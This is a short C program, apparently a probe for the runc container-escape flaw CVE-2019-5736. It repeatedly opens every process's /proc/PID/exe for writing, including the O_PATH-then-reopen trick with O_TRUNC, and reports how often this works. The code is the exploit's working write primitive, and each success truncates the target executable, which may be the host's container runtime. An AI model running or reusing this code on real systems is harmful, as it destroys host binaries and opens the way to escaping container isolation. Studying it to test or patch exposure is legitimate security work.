/* CVE-2019-5736: the OCI runtime's own program, reached through /proc/PID/exe, is opened for writing while it starts or enters the container.
 * Here for every process that there is, again and again. Prints how often it worked. */
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <time.h>
#include <unistd.h>

static int opened, seen;

static void try_process(const char *pid)
{
    char path[64];

    snprintf(path, sizeof(path), "/proc/%s/exe", pid);
    int fd = open(path, O_RDWR | O_CLOEXEC);
    seen++;
    if (fd >= 0) {
        opened++;
        close(fd);
    }
    /* The known way: hold it with O_PATH, and open the descriptor when nobody runs the file any more. */
    int held = open(path, O_PATH | O_CLOEXEC);
    snprintf(path, sizeof(path), "/proc/self/fd/%d", held);
    fd = held >= 0 ? open(path, O_WRONLY | O_TRUNC | O_CLOEXEC) : -1;
    if (fd >= 0)
        opened++;
    close(fd);
    close(held);
}

int main(void)
{
    time_t until = time(NULL) + 1;

    while (time(NULL) <= until) {
        DIR *folder = opendir("/proc");
        for (struct dirent *entry; folder && (entry = readdir(folder));)
            if (entry->d_name[0] >= '0' && entry->d_name[0] <= '9')
                try_process(entry->d_name);
        closedir(folder);
        try_process("self");
    }
    printf("{\"opened\": %d, \"tries\": %d}\n", opened, seen);
    return 0;
}
